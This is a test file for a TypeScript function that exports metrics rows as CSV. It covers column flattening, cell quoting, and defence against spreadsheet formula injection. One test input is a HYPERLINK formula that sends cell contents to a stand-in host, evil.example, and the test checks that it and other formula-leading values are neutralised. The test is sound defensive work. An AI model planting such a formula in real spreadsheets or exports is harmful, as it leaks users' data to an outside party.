import { describe, expect, it } from 'vitest';
import { toCsv } from '../api/metrics-csv';

describe('metrics CSV export', () => {
  it('flattens nested figures into dotted columns and leaves nulls empty', () => {
    expect(toCsv([{ period: '2025-01', mrr: null, counts: { new: 2, churn: 0 } }, { period: '2025-02', mrr: 5000, counts: { new: 1, churn: 1 }, extra: true }])).toBe(
      'period,mrr,counts.new,counts.churn,extra\r\n2025-01,,2,0,\r\n2025-02,5000,1,1,true\r\n',
    );
  });

  it('quotes cells with commas, quotes or line breaks, and writes objects as JSON', () => {
    expect(toCsv([{ customerId: 'cus_"a",b', original: { eur: -100 } }])).toBe('customerId,original.eur\r\n"cus_""a"",b",-100\r\n');
    expect(toCsv([{ note: 'two\nlines', list: [1, 2] }])).toBe('note,list\r\n"two\nlines","[1,2]"\r\n');
  });

  it("never lets a customer's text run as a spreadsheet formula, and leaves numbers alone", () => {
    const rows = ['=HYPERLINK("http://evil.example/?"&A2,"x")', '+1', '-2+3', '@SUM(A1)', '\tTab', '\rCR', 'Acme = fine', 'a-b'].map((name) => ({ name, amount: -500 }));
    expect(toCsv(rows).split('\r\n').slice(1, -1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A2,""x"")",-500`,
      "'+1,-500",
      "'-2+3,-500",
      "'@SUM(A1),-500",
      "'\tTab,-500",
      `"'\rCR",-500`,
      'Acme = fine,-500',
      'a-b,-500',
    ]);
  });
});
